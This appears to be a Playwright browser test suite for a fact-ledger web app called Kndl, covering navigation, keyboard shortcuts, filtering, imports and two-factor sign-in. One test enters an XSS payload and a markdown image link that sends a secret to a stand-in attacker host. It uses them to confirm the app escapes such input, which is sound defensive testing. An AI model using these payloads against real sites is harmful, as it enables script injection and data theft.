"""The ways people go through Kndl, in a real browser with the keyboard at hand."""

import re

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from tests.accounts.factors import code_of
from tests.browser.conftest import OWNER_EMAIL, OWNER_PASSWORD, Watched
from tests.instances import Instance

pytestmark = pytest.mark.browser


def test_the_owner_link_leads_to_a_living_space_and_a_fact_to_its_source(tab: Watched, up: Instance):
    page = tab.page
    page.goto(up.url)
    expect(page).to_have_url(f"{up.url}/spaces/demo/")
    expect(page.get_by_role("heading", name="Clinic Ledger")).to_be_visible()

    page.get_by_role("navigation", name="Kndl").get_by_role("link", name="Facts").click()
    expect(page.get_by_role("row")).not_to_have_count(0)
    page.get_by_label("Subject", exact=True).fill("clinic:harrow-street")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("link", name="subject clinic:harrow-street")).to_be_visible()
    expect(page).to_have_url(re.compile(r"subject=clinic%3Aharrow-street"))
    assert "valid_at" not in page.url

    page.get_by_role("link", name="Harrow Street closes its ledger on the 5th working day.").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Harrow Street closes its ledger on the 5th working day.")
    expect(page.get_by_role("img", name=re.compile("Effective confidence falls"))).to_be_visible()
    history = page.get_by_role("region", name="History").or_(page.locator("#history"))
    expect(history.get_by_role("listitem")).to_have_count(3)
    history.get_by_role("link", name="Harrow Street closes its ledger on the 4th working day.").click()
    expect(page.get_by_text("Another fact stands in its place.")).to_be_visible()
    page.get_by_role("link", name="Open what superseded it").click()
    page.get_by_role("link", name=re.compile("^The finance handbook, section 4.2")).last.click()
    expect(page.get_by_role("link", name="https://handbook.northmere.example/finance/4-2")).to_be_visible()


def test_a_fact_is_followed_to_its_source_by_keys_alone(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/")
    page.keyboard.press("g")
    page.keyboard.press("f")
    page.wait_for_url(re.compile("/facts"))
    page.goto(f"{page.url}&subject=project:claims-gateway&order=confidence")
    first = page.locator("tbody a").first
    page.keyboard.press("j")
    expect(first).to_be_focused()
    page.keyboard.press("j")
    page.keyboard.press("k")
    expect(first).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("claims-gateway answers 429 above 500 claims a batch.")
    source = page.get_by_role("link", name="https://docs.claims-gateway.example/v2")
    for _ in range(60):
        page.keyboard.press("Tab")
        if source.evaluate("link => link === document.activeElement"):
            break
    expect(source).to_be_focused()


def test_the_keys_are_listed_and_every_listed_key_is_answered(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/")
    page.keyboard.press("?")
    dialog = page.get_by_role("dialog", name="Keys")
    expect(dialog).to_be_visible()
    assert not dialog.get_by_text("pick for a bulk action").is_visible()
    page.keyboard.press("Escape")
    expect(dialog).not_to_be_visible()
    for key, address in (("f", "/facts"), ("h", "/spaces/demo/"), ("t", "/seats"), ("w", "/people")):
        page.keyboard.press("g")
        page.keyboard.press(key)
        page.wait_for_url(re.compile(address))


def test_the_keys_of_a_queue_are_listed_where_there_is_one(tab: Watched, up: Instance):
    page = tab.page
    dialog = page.get_by_role("dialog", name="Keys")
    for address, listed in (("contradictions", True), ("fading", True), ("facts", False)):
        page.goto(f"{up.url}/spaces/demo/{address}?scope=claims-desk")
        page.keyboard.press("?")
        assert dialog.get_by_text("pick for a bulk action").is_visible() is listed


def test_a_new_token_is_copied_by_a_button(tab: Watched, up: Instance):
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=up.url)
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/seats/new")
    page.get_by_label("Name").or_(page.get_by_label("Project")).first.fill("copied")
    page.get_by_role("button", name="Add the seat").click()
    token = page.locator("#token").inner_text()
    page.get_by_role("button", name="Copy the token").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == token


def test_filtering_swaps_the_middle_keeps_the_focus_and_goes_back(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared")
    page.evaluate("window.stayed = true")
    page.get_by_label("Band").select_option("stale")
    page.get_by_role("button", name="Filter").press("Enter")
    expect(page.get_by_role("link", name="band stale")).to_be_visible()
    assert page.evaluate("window.stayed") is True
    expect(page.get_by_role("button", name="Filter")).to_be_focused()
    expect(page).to_have_title(re.compile("^Facts"))
    expect(page.locator("main")).to_have_count(1)

    page.go_back()
    expect(page.get_by_role("link", name="band stale")).to_have_count(0)
    expect(page.get_by_role("navigation", name="Kndl")).to_be_visible()


def test_a_bad_value_is_refused_in_place(tab: Watched, up: Instance):
    tab.expect("status of 400")
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared")
    page.get_by_label("At least").fill("much")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("alert")).to_contain_text("min_confidence")
    expect(page.get_by_label("At least")).to_have_attribute("aria-invalid", "true")


def test_the_sliders_move_the_dates_and_bring_the_past_back(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared&subject=project:claims-gateway")
    expect(page.get_by_text("claims-gateway answers 429 above 500 claims a batch.")).to_be_visible()
    slider = page.get_by_role("slider", name="When we knew it, by the day")
    expect(slider).to_be_visible()
    slider.focus()
    for _ in range(40):
        page.keyboard.press("ArrowLeft")
    assert page.get_by_label("When we knew it", exact=True).input_value().endswith("T23:59:59")
    page.get_by_role("button", name="Show that instant").click()
    expect(page.get_by_text("claims-gateway takes 350 claims a batch.")).to_be_visible()
    page.keyboard.press("Tab")
    page.get_by_role("slider", name="When we knew it, by the day").focus()
    page.keyboard.press("End")
    assert page.get_by_label("When we knew it", exact=True).input_value() == ""


def test_a_person_writes_a_fact_and_supersedes_it(tab: Watched, up: Instance):
    tab.expect("status of 400")
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared")
    page.get_by_role("link", name="Write a fact").click()
    expect(page.get_by_label("Source")).to_have_value("human://mirel-oskander")
    page.get_by_label("Statement").fill("<img src=x onerror=document.title='pwn'>")
    page.get_by_label("Subject").fill("test:hostile")
    page.get_by_label("Confidence").fill("much")
    page.get_by_role("button", name="Write the fact").click()
    expect(page.get_by_text("Must be a number between 0 and 1.")).to_be_visible()
    page.get_by_label("Confidence").fill("0.5")
    page.get_by_role("button", name="Write the fact").click()
    expect(page.get_by_role("status")).to_contain_text("Fact written.")
    expect(page.get_by_role("heading", level=1)).to_have_text("<img src=x onerror=document.title='pwn'>")
    for address in ("/spaces/demo/", "/spaces/demo/facts?scope=shared&subject=test:hostile"):
        shown = page.context.new_page()
        shown.goto(up.url + address)
        expect(shown.get_by_role("link", name="<img src=x onerror=document.title='pwn'>")).to_be_visible()
        assert "pwn" not in shown.title().split(" · ")
        shown.close()

    page.get_by_role("link", name="Supersede…").click()
    page.get_by_label("Statement").fill("![a](https://evil.example/?q=SECRET)")
    page.get_by_role("button", name="Supersede").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("![a](https://evil.example/?q=SECRET)")
    assert page.locator("main img").count() == 0


def test_a_file_of_facts_is_imported(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/facts/import?scope=claims-desk")
    fact = '{"@id": "fact:from-file", "statement": "It came in a file.", "confidence": 0.9, "source": "urn:x"}'
    files: list[FilePayload] = [
        {"name": "a.jsonl", "mimeType": "application/x-ndjson", "buffer": fact.encode()},
        {"name": "b.fact.json", "mimeType": "application/json", "buffer": b"{"},
    ]
    page.get_by_label("Files").set_input_files(files)
    page.get_by_role("button", name="Import").click()
    expect(page.get_by_role("row", name=re.compile("b.fact.json"))).to_be_visible()
    page.get_by_role("link", name="Look at the facts").click()
    expect(page.get_by_role("link", name="It came in a file.")).to_be_visible()


def test_the_theme_is_remembered_by_the_server(tab: Watched, up: Instance):
    page = tab.page
    page.goto(f"{up.url}/spaces/demo/")
    page.get_by_label("Mirel Oskander, your account").click()
    page.get_by_role("button", name="Theme: system").click()
    page.reload()
    assert page.locator("html").get_attribute("data-theme") == "light"


def test_every_page_reads_and_filters_without_a_script(browser: Browser, signed_in, up: Instance):
    context = browser.new_context(storage_state=signed_in, java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared")
    assert _rows(page) > 20
    assert not page.get_by_role("slider").first.is_visible()
    page.get_by_label("Class").select_option("PII")
    page.get_by_label("When we knew it", exact=True).fill("2199-01-01T12:00")
    page.get_by_role("button", name="Filter").click()
    assert 0 < _rows(page) < 20
    page.get_by_role("link", name=re.compile("^known on 1 Jan 2199")).click()
    page.locator("tbody a").first.click()
    expect(page.get_by_role("heading", name="How sure")).to_be_visible()
    context.close()


def _rows(page: Page) -> int:
    return page.locator("tbody tr").count()


@pytest.mark.usefixtures("signed_in")
def test_the_second_time_the_owner_is_led_to_a_second_factor_before_anything_opens(browser: Browser, up: Instance):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{up.url}/spaces/demo/facts?scope=shared")
    page.get_by_label("E-mail").fill(OWNER_EMAIL)
    page.get_by_label("Password").fill(OWNER_PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    expect(page).to_have_url(f"{up.url}/accounts/2fa/")
    page.goto(f"{up.url}/spaces/demo/")
    expect(page).to_have_url(f"{up.url}/accounts/2fa/")

    page.get_by_role("link", name="Set up the app").click()
    page.get_by_label("Password").fill(OWNER_PASSWORD)
    page.get_by_role("button", name="Confirm").click()
    page.get_by_label("Code of the app").fill(code_of(page.locator("code.secret").inner_text()))
    page.get_by_role("button", name="Switch on").click()
    page.wait_for_load_state()
    page.goto(f"{up.url}/spaces/demo/")
    expect(page.get_by_role("heading", name="Clinic Ledger")).to_be_visible()
    context.close()
